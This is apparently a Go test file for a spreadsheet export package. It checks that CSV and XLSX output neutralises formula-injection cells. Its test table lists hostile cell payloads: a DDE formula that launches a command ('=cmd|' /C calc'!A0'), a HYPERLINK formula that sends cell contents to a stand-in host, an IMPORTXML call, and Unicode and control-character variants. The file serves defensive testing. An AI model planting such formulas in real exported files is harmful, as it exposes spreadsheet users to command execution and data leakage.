package sheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/omvendt/omvendt/internal/sheet"
	"github.com/omvendt/omvendt/internal/texts"
)

// hostile are cells that programs have taken for more than text, and whether a
// CSV says of them that they are none.
var hostile = []struct {
	cell    string
	defused bool
}{
	{`=1+1`, true}, {`+1+1`, true}, {`-1+1`, true}, {`@SUM(A1)`, true}, {`=cmd|' /C calc'!A0`, true},
	{`=HYPERLINK("https://ond.example?x="&A1;"Klik")`, true}, {`=IMPORTXML("https://ond.example")`, true},
	{"\t=1+1", true}, {"\r=1+1", true}, {"\n=1+1", true}, {"\tplain", true}, {"  =1+1", true}, {"\u00a0=1+1", true},
	{"\ufeff=1+1", true}, {"\u200b=1+1", true}, {"\u202e=1+1", true}, {"\x01=1+1", true},
	{"＝1+1", true}, {"＋1", true}, {"－1", true}, {"＠SUM(A1)", true}, {"−1", true}, {"-", true},
	{`'=1+1`, false}, {`tekst;=1+1`, false}, {`tekst,=1+1`, false}, {`tekst"` + "\n=1+1", false}, {`";=1+1;"`, false},
	{`a=1`, false}, {``, false}, {`Ærø, Øby og Åls`, false}, {"to\nlinjer", false}, {`_x0041_`, false}, {`<b>&amp;</b>`, false}, {" plads ", false},
}

func table() sheet.Table {
	return sheet.Table{Name: "Regler", Lang: texts.Danish, Columns: []sheet.Column{{Head: "Nummer", Width: 9}, {Head: "Regel", Width: 40}}}
}

func write(t *testing.T, f sheet.Format, cells ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	err := sheet.Write(&out, f, table(), func(add func([]string) error) error {
		for _, c := range cells {
			if err := add([]string{"R-0001", c}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// No cell is a formula, and none is lost, whether the reader's program parts
// cells at semicolons or at commas.
func TestHostileCellsInCSV(t *testing.T) {
	for _, c := range hostile {
		file := string(write(t, sheet.CSV, c.cell))
		body, ok := strings.CutPrefix(file, "\ufeff")
		if !ok || !strings.HasPrefix(body, "\"Nummer\";\"Regel\"\r\n") || !strings.HasSuffix(body, "\r\n") {
			t.Fatalf("%q", file)
		}
		want := c.cell
		if c.defused {
			want = "'" + want
		}
		if line := `"R-0001";"` + strings.ReplaceAll(want, `"`, `""`) + `"` + "\r\n"; !strings.HasSuffix(body, line) {
			t.Errorf("%q is written as %q", c.cell, body)
		}
		read := csv.NewReader(strings.NewReader(body))
		read.Comma = ';'
		rows, err := read.ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 2 || rows[1][1] != strings.ReplaceAll(want, "\r\n", "\n") {
			t.Errorf("%q is read as %q, %v", c.cell, rows, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
					t.Errorf("%q comes out as %q", c.cell, cell)
				}
			}
		}
	}
}

// In XLSX every cell is a text, whatever it says.
func TestHostileCellsInXLSX(t *testing.T) {
	var cells []string
	for _, c := range hostile {
		cells = append(cells, c.cell)
	}
	book, err := excelize.OpenReader(bytes.NewReader(write(t, sheet.XLSX, cells...)))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for i, want := range cells {
		at, err := excelize.CoordinatesToCellName(2, i+2)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := book.GetCellFormula("Regler", at)
		kind, err2 := book.GetCellType("Regler", at)
		have, err3 := book.GetCellValue("Regler", at)
		if formula != "" || err != nil || err2 != nil || err3 != nil {
			t.Errorf("%q: formula %q, %v %v %v", want, formula, err, err2, err3)
		}
		if want != "" && kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%q is of type %v", want, kind)
		}
		want = strings.ReplaceAll(strings.ReplaceAll(want, "\x01", "\ufffd"), "\r", "\n") // XML has no such character, and one line break
		if strings.ReplaceAll(have, "\r", "\n") != want {
			t.Errorf("%q is read as %q", want, have)
		}
	}
}

// The head stays in view, stands on every printed page, and columns are wide enough.
func TestSheet(t *testing.T) {
	book, err := excelize.OpenReader(bytes.NewReader(write(t, sheet.XLSX, "Ugeplan")))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	panes, err := book.GetPanes("Regler")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v, %v", panes, err)
	}
	if width, err := book.GetColWidth("Regler", "B"); err != nil || width != 40 {
		t.Errorf("width %v, %v", width, err)
	}
	names := book.GetDefinedName()
	if !slices.ContainsFunc(names, func(n excelize.DefinedName) bool {
		return n.Name == "_xlnm.Print_Titles" && n.RefersTo == "'Regler'!$1:$1" && n.Scope == "Regler"
	}) {
		t.Errorf("names %+v", names)
	}
	if props, err := book.GetDocProps(); err != nil || props.Language != "da" {
		t.Errorf("props %+v, %v", props, err)
	}
}

// What fails at once has written nothing, so that it can still be told.
func TestNothingIsWrittenBeforeTheFirstRows(t *testing.T) {
	wrong := errors.New("wrong")
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		var out bytes.Buffer
		err := sheet.Write(&out, f, table(), func(func([]string) error) error { return wrong })
		if err != wrong || out.Len() > 0 {
			t.Errorf("%s: %v, %d bytes", f, err, out.Len())
		}
	}
}

// An error of the reader's is an error of the whole, early and late.
func TestWriterThatFails(t *testing.T) {
	full := errors.New("full")
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		err := sheet.Write(broken{full}, f, table(), func(add func([]string) error) error {
			for range 3000 {
				if err := add([]string{"R-0001", strings.Repeat("å", 100)}); err != nil {
					return err
				}
			}
			return nil
		})
		if !errors.Is(err, full) {
			t.Errorf("%s: %v", f, err)
		}
	}
}

type broken struct{ err error }

func (b broken) Write([]byte) (int, error) { return 0, b.err }
